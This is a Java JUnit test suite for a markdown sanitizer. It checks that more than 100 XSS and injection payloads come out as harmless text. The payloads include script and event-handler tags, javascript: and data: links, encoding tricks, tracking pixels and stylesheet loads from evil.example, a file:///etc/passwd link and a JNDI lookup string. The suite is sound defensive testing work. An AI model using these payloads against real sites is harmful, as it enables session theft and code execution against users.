package org.koraos.portal.uikit;

import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

class SafeMarkdownTest {

    private static final Set<String> HARMLESS = Set.of(
            "p",
            "br",
            "em",
            "strong",
            "code",
            "pre",
            "blockquote",
            "hr",
            "ul",
            "ol",
            "li",
            "h4",
            "h5",
            "h6",
            "a",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td");
    /** Of a processor, not of the clock on the wall, so that a busy machine does not fail the test. */
    private static final Duration MOST_WORK = Duration.ofSeconds(2);

    private static final Map<String, Set<String>> ATTRIBUTES =
            Map.of("a", Set.of("href", "rel", "target"), "ol", Set.of("start"));

    /** Each tries to run something, load something, or lead somewhere that is not the web. */
    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\" />",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<body onload=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<form action=\"javascript:alert(1)\"><button>x</button></form>",
                "<input onfocus=alert(1) autofocus>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>body{background:url(https://evil.example)}</style>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<p style=\"position:fixed;inset:0\">cover</p>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<vaadin-button onclick=alert(1)>x</vaadin-button>",
                "<x onclick=alert(1)>x</x>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<!DOCTYPE html><script>alert(1)</script>",
                "</div></body><script>alert(1)</script>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;&#97;vascript:alert(1))",
                "[x](&#x6A;avascript:alert(1))",
                "[x](java&#10;script:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](\u0001javascript:alert(1))",
                "[x](&#1;javascript:alert(1))",
                "[x]( javascript:alert(1) )",
                "[x](javascript://example.org/%0aalert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](DATA:image/svg+xml,<svg onload=alert(1)>)",
                "[x](file:///etc/passwd)",
                "[x](blob:https://example.org/1)",
                "[x](filesystem:https://example.org/1)",
                "[x](intent://example.org#Intent;end)",
                "[x](.alert(1);)",
                "[x](//evil.example/x)",
                "[x](\\\\evil.example\\x)",
                "[x](/people)",
                "[x](?role=PO)",
                "[x](#top)",
                "[x](https://example.org@evil.example/)",
                "[x](https://example.org/\"onmouseover=\"alert(1))",
                "[x](https://example.org/'onmouseover='alert(1))",
                "[x](<https://example.org/\"><script>alert(1)</script>>)",
                "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
                "[x](https://example.org '\"><script>alert(1)</script>')",
                "[<img src=x onerror=alert(1)>](https://example.org)",
                "[x][ref]\n\n[ref]: javascript:alert(1)",
                "[x][ref]\n\n[ref]: <javascript:alert(1)> \"title\"",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "<JAVASCRIPT:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "![](https://evil.example/pixel.gif)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x\"onerror=\"alert(1)](x)",
                "![<script>alert(1)</script>](https://example.org/x)",
                "![x][pic]\n\n[pic]: https://evil.example/pixel.gif",
                "[![x](javascript:alert(1))](javascript:alert(2))",
                "```\"onmouseover=\"alert(1)\nx\n```",
                "```html\n<script>alert(1)</script>\n```",
                "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
                "> <script>alert(1)</script>",
                "- <img src=x onerror=alert(1)>",
                "# <script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script>alert(1)\\</script>",
                "$$\\href{javascript:alert(1)}{x}$$",
                "${7*7} #{7*7} {{7*7}} <%= 7*7 %> ${jndi:ldap://evil.example/x}",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<\u200Bscript>alert(1)</script>",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "*<b onmouseover=alert(1)>x</b>*",
                "**[x](java\\script:alert(1))**",
                "https://example.org/<script>alert(1)</script>",
                "<https://example.org/\"onclick=alert(1)>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void an_attack_is_only_ever_shown(String attack) {
        var body = Jsoup.parseBodyFragment(SafeMarkdown.toHtml(attack)).body();

        for (var element : body.select("body *")) {
            assertThat(HARMLESS).as(attack).contains(element.normalName());
            assertThat(ATTRIBUTES.getOrDefault(element.normalName(), Set.of()))
                    .as(attack)
                    .containsAll(element.attributes().asList().stream()
                            .map(Attribute::getKey)
                            .toList());
            if (element.normalName().equals("a")) leadsToTheWeb(element);
        }
        assertThat(body.text()).as("something is shown of %s", attack).isNotBlank();
    }

    private static void leadsToTheWeb(Element link) {
        assertThat(link.attr("href")).matches("(?i)https?://[a-z0-9.-]+([/?#].*)?");
        assertThat(link.attr("rel")).contains("noopener", "noreferrer", "nofollow");
        assertThat(link.attr("target")).isEqualTo("_blank");
    }

    /** Raw text, so that no parser of the test mends what a browser would not. */
    @ParameterizedTest
    @MethodSource("attacks")
    void no_angle_bracket_is_left_that_the_renderer_did_not_write(String attack) {
        var html = SafeMarkdown.toHtml(attack);
        var rest = html.replaceAll(
                "</?(p|br|em|strong|code|pre|blockquote|hr|ul|ol|li|h[456]|table|thead|tbody|tr|th|td)>|</a>"
                        + "|<a (href|rel|target)=\"[^\"<>]*\"( (href|rel|target)=\"[^\"<>]*\"){2}>",
                "");

        assertThat(rest).doesNotContain("<");
    }

    @Test
    void there_are_enough_attacks_and_each_is_another() {
        assertThat(attacks()).hasSizeGreaterThanOrEqualTo(100).doesNotHaveDuplicates();
    }

    @Test
    void html_is_shown_as_the_text_that_it_is() {
        assertThat(text("Uses <b>bold</b> & <i>more</i>")).isEqualTo("Uses <b>bold</b> & <i>more</i>");
        assertThat(text("<table><tr><td>x</td></tr></table>")).isEqualTo("<table><tr><td>x</td></tr></table>");
    }

    @Test
    void what_people_write_looks_as_they_mean_it() {
        assertThat(SafeMarkdown.toHtml("**All** 12 *tests* pass, see `report.xml`.\nNext line."))
                .isEqualTo(
                        "<p><strong>All</strong> 12 <em>tests</em> pass, see <code>report.xml</code>.<br>Next line.</p>");
        assertThat(SafeMarkdown.toHtml("- one\n- two").replace("\n", ""))
                .isEqualTo("<ul><li>one</li><li>two</li></ul>");
        assertThat(SafeMarkdown.toHtml("```\na < b\n```").strip()).isEqualTo("<pre><code>a &lt; b\n</code></pre>");
        assertThat(SafeMarkdown.toHtml("| a | b |\n|--|--|\n| 1 | 2 |"))
                .contains("<th>a</th>")
                .contains("<td>2</td>");
    }

    @Test
    void a_link_to_the_web_is_a_link_and_tells_the_other_side_nothing() {
        assertThat(Jsoup.parseBodyFragment(SafeMarkdown.toHtml("[run](https://ci.example.org/7?a=1&b=2)"))
                        .selectFirst("a[href=https://ci.example.org/7?a=1&b=2][rel~=noreferrer]"))
                .isNotNull();
    }

    @Test
    void an_address_that_is_not_on_the_web_is_shown_beside_its_words() {
        assertThat(text("[Report](/reports/7)")).isEqualTo("Report (/reports/7)");
    }

    @Test
    void an_image_is_a_link_and_is_not_loaded() {
        var html = SafeMarkdown.toHtml("![the **graph**](https://example.org/graph.png)");

        assertThat(html).doesNotContain("<img").contains("https://example.org/graph.png", "the graph");
    }

    @Test
    void headings_stay_below_those_of_the_page() {
        assertThat(SafeMarkdown.toHtml("# One\n\n### Three\n\n###### Six"))
                .contains("<h4>One</h4>", "<h6>Three</h6>", "<h6>Six</h6>");
    }

    @Test
    void characters_that_turn_others_around_are_shown_as_marks() {
        assertThat(text("invoice\u202Efdp.exe")).isEqualTo("invoice[U+202E]fdp.exe");
        assertThat(text("`\u2066x\u2069`")).isEqualTo("[U+2066]x[U+2069]");
    }

    @Test
    void what_is_too_long_or_too_deep_is_shown_as_plain_text() {
        assertThat(SafeMarkdown.toHtml("*a* <b>" + "x".repeat(20_000))).startsWith("<pre>*a* &lt;b&gt;xxx");
        assertThat(SafeMarkdown.toHtml("*a **b ".repeat(500) + "c" + "** x*".repeat(500)))
                .contains("*a **b *a **b");
    }

    /** As much of each as the renderer takes. */
    static Stream<String> heavy() {
        return Stream.of(
                        "[",
                        "]",
                        "[a](",
                        "![a](",
                        "[a]: b\n",
                        "[a][b]",
                        "[a](b \"",
                        "`",
                        "` `` ``` ",
                        ">",
                        "> ",
                        "- ",
                        "> - ",
                        "1. ",
                        "*a **a ",
                        "_a __a ",
                        "c* ",
                        "**",
                        "a**b",
                        "|a",
                        "<",
                        "<!--",
                        "<?",
                        "<![CDATA[",
                        "<a ",
                        "<https://",
                        "&",
                        "&#",
                        "\\",
                        "#",
                        "# a\n",
                        "a\n",
                        "a\n===\n",
                        "\n",
                        "\r",
                        "\t",
                        "x\u0000",
                        "\u202E",
                        "\uD83D",
                        "- a\n\n      b\n")
                .map(SafeMarkdownTest::filled);
    }

    private static String filled(String piece) {
        return piece.repeat(20_000 / piece.length());
    }

    @ParameterizedTest
    @MethodSource("heavy")
    void what_is_made_to_be_heavy_is_light(String markdown) {
        var threads = ManagementFactory.getThreadMXBean();
        var begin = threads.getCurrentThreadCpuTime();

        assertThatCode(() -> SafeMarkdown.toHtml(markdown)).doesNotThrowAnyException();

        assertThat(Duration.ofNanos(threads.getCurrentThreadCpuTime() - begin)).isLessThan(MOST_WORK);
    }

    @Test
    void a_small_text_makes_no_huge_table() {
        var wide = "|x".repeat(2_500) + "|\n" + "|-".repeat(2_500) + "|\n" + "|y\n".repeat(3_000);

        assertThat(SafeMarkdown.toHtml(wide)).hasSizeLessThan(30_000).startsWith("<pre>|x|x");
    }

    private static String text(String markdown) {
        return Jsoup.parseBodyFragment(SafeMarkdown.toHtml(markdown)).body().text();
    }
}
